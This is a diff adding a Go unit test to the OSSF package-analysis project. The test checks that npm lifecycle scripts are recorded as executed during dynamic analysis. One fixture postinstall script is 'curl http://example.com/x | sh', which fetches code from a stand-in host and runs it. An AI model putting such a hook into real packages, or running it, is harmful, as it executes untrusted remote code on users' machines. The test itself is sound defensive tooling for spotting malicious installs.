@@ -0,0 +1,30 @@
+package dynamicanalysis
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/ossf/package-analysis/internal/pkgmanager"
+	"github.com/ossf/package-analysis/pkg/api/analysisrun"
+)
+
+func TestInstallScriptResults(t *testing.T) {
+	scripts := []pkgmanager.LifecycleScript{
+		{Name: "preinstall", Script: "node check.js"},
+		{Name: "postinstall", Script: "curl http://example.com/x | sh"},
+	}
+	commands := []analysisrun.CommandResult{
+		{Command: []string{"npm", "install", "foo"}},
+		{Command: []string{"sh", "-c", "curl http://example.com/x | sh"}},
+		{Command: []string{"curl", "http://example.com/x"}},
+	}
+
+	want := []analysisrun.InstallScriptResult{
+		{Name: "preinstall", Script: "node check.js", Executed: false},
+		{Name: "postinstall", Script: "curl http://example.com/x | sh", Executed: true},
+	}
+
+	if got := InstallScriptResults(scripts, commands); !reflect.DeepEqual(got, want) {
+		t.Errorf("InstallScriptResults() = %v, want %v", got, want)
+	}
+}